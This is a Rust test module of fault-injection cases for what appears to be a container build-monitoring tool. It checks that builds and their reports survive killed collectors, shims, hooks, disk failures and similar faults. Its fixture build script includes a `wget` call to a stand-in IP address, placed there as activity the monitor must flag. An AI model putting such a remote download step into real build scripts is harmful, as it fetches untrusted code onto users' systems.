//! Faults: something is taken from the hook or the collector of a real container, at one point
//! or at every one, and the outcome must be fair: the build is as without us, and its report is
//! complete, or says why it is not. `make faults` runs them whole and prints what each came to.

mod clock;
mod disks;
mod left;
mod many;
mod refused;
mod shim;
mod steps;
mod table;
mod upgrade;

use crate::{
    collector, gc,
    harness::{Container, Dir, Done, run},
    host, killed, lifecycle,
};
use std::panic::catch_unwind;
pub(crate) use table::{Outcome, came_to};

/// How much of what is systematic is done.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Extent {
    /// Some of it, spread over the whole: what `make test` has the time for.
    Part,
    /// All of it.
    Whole,
}

impl Extent {
    fn choose<T>(self, part: T, whole: T) -> T {
        match self {
            Extent::Part => part,
            Extent::Whole => whole,
        }
    }
}

/// What is built in the container of a fault: one half before `/sync/go` and one behind.
const BUILD: &str = "/bin/true; echo >/sync/ready; read _ </sync/go; \
    wget http://198.51.100.13/x; echo built; exit 7";
/// How many execs that makes; the last has a finding.
const EXECS: u64 = 3;

/// It was built as without us.
#[track_caller]
fn expect_built(done: &Done) {
    assert_eq!((done.code, &*done.stdout()), (7, "built\n"), "{done}");
}

/// What the report of a run of [`BUILD`] comes to. A complete one must be that, and whatever
/// it lacks, `clean` it may not be: what was executed is not.
#[track_caller]
fn outcome(dir: &Dir, run: &str) -> Outcome {
    let report = dir.report(run);
    let outcome = Outcome::of(&report);
    let facts = (report.findings.len(), report.completeness.execs);
    assert!(outcome != Outcome::Complete || facts == (1, EXECS), "{run}: {report:?}");
    assert_ne!(report.verdict.as_str(), "clean", "{run}: {report:?}");
    outcome
}

/// Starts a container of [`BUILD`] again, as an engine would: nothing may be in its way.
#[track_caller]
fn expect_next_complete(dir: &Dir, id: &str, run: &str) {
    let container = Container::new(dir, id).script(BUILD);
    let mut running = container.start();
    running.ready();
    running.go();
    expect_built(&running.finish());
    assert_eq!(outcome(dir, run), Outcome::Complete, "{run}");
}

#[track_caller]
fn gc(dir: &Dir, args: &[&str]) -> Done {
    run(dir.buildwarden(["gc"]).args(args))
}

type Fault = fn();

/// Those that are in other files because they say something else too, and ours, whole.
const FAULTS: [(&str, Fault); 28] = [
    ("killed collector", || lifecycle::root_a_killed_collector_costs_nothing_but_time()),
    ("collector killed", || steps::collector("kill", Extent::Whole)),
    ("collector stopped", || steps::collector("stop", Extent::Whole)),
    ("collector without memory", || steps::collector("no-memory", Extent::Whole)),
    ("collector without descriptors", || steps::collector("no-files", Extent::Whole)),
    ("hook killed", || steps::hook(Extent::Whole)),
    ("first hook killed", || steps::first_hook(Extent::Whole)),
    ("poststop killed", || steps::poststop(Extent::Whole)),
    ("shim killed", || {
        killed::root_the_shim_killed_at_any_system_call_leaves_a_whole_config_json()
    }),
    ("docker, shim killed", || shim::root_docker_starts_the_next_time_what_a_killed_shim_did_not()),
    ("containerd, shim killed", || {
        shim::root_containerd_starts_the_next_time_what_a_killed_shim_did_not()
    }),
    ("docker, bundle", || shim::root_docker_starts_or_refuses_what_the_shim_cannot_change()),
    ("containerd, bundle", || {
        shim::root_containerd_starts_or_refuses_what_the_shim_cannot_change()
    }),
    ("docker, runtime", || shim::root_docker_shows_that_the_runtime_is_missing()),
    ("containerd, runtime", || shim::root_containerd_shows_that_the_runtime_is_missing()),
    ("disks", || disks::root_a_disk_that_fails_harms_no_build()),
    ("directories", || disks::root_directories_that_are_removed_are_told()),
    ("run directory", || gc::root_a_lost_run_directory_loses_nothing()),
    ("ring", || collector::root_a_storm_is_counted_and_hides_no_listed_tool()),
    ("no bpffs", || host::root_a_missing_bpffs_is_mounted()),
    ("bpffs", || refused::root_pins_that_go_cost_at_most_completeness()),
    ("bpf", || refused::each_command(Extent::Whole)),
    ("btf", || refused::root_a_kernel_without_type_information_is_told()),
    ("clock", || clock::root_a_clock_that_is_set_changes_no_account()),
    ("race", || many::root_many_hooks_race_to_load_the_probe_set()),
    ("upgrade", || upgrade::root_an_upgrade_leaves_live_containers_alone()),
    ("reboot", || gc::root_a_run_that_a_restart_has_orphaned_is_finished_once()),
    ("many", || many::come_and_go(Extent::Whole)),
];

#[test]
#[ignore = "does every fault at every step, for a quarter of an hour: `make faults` runs it"]
fn root_faults() {
    let only = std::env::var("FAULTS").ok();
    let chosen = |name: &str| only.as_deref().is_none_or(|only| name.contains(only));
    let mut failed = Vec::new();
    for (name, fault) in FAULTS.into_iter().filter(|(name, _)| chosen(name)) {
        eprintln!("{name}");
        // What went wrong has been said.
        if catch_unwind(fault).is_err() {
            failed.push(name);
        }
    }
    table::print();
    assert!(failed.is_empty(), "unfair: {}", failed.join(", "));
}
